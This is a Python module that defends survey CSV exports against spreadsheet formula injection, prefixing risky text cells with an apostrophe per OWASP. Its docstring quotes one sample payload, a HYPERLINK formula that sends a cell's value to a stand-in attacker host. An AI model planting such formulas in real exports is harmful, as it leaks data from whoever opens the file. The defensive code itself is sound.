"""Cells a spreadsheet would run as a formula, made inert for CSV files (CSV/formula injection).

A respondent who types ``=HYPERLINK("http://evil.example?"&A1, "click")`` as a comment would see it
run on the analyst's machine when the export is opened in Excel or LibreOffice. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) is followed: a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which spreadsheets
show as text and do not display; the CSV writer then quotes cells holding separators or quotes.

Only text columns are touched: a negative number in a numeric column stays a number (``-3.5`` is
not a formula to any spreadsheet, and the weight and numeric answers must read back as numbers).
"""

from __future__ import annotations

import pandas as pd

__all__ = ["NEUTRALISED_NOTE", "TRIGGERS", "neutralise", "neutralise_frame", "risky_columns"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
NEUTRALISED_NOTE = (
    "Text cells beginning with = + - @, a tab or a carriage return are written with a leading "
    "apostrophe (') so that spreadsheets show them as text instead of running them (OWASP, CSV "
    "injection); `survey export --raw` writes them as typed."
)


def neutralise(value: object) -> object:
    """The value a CSV cell should hold: text that could start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return PREFIX + value
    return value


def _is_text(column: pd.Series) -> bool:
    return column.dtype == object or pd.api.types.is_string_dtype(column.dtype)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text column neutralised; numeric and date columns are left as they are."""
    safe = frame.copy()
    for name in safe.columns:
        if _is_text(safe[name]):
            safe[name] = safe[name].map(neutralise, na_action="ignore")
    return safe


def risky_columns(frame: pd.DataFrame) -> dict[str, int]:
    """Text columns holding cells that begin like a formula, with how many (for the export's note)."""
    found: dict[str, int] = {}
    for name in frame.columns:
        if not _is_text(frame[name]):
            continue
        hits = int(frame[name].map(lambda v: isinstance(v, str) and v.startswith(TRIGGERS)).sum())
        if hits:
            found[str(name)] = hits
    return found
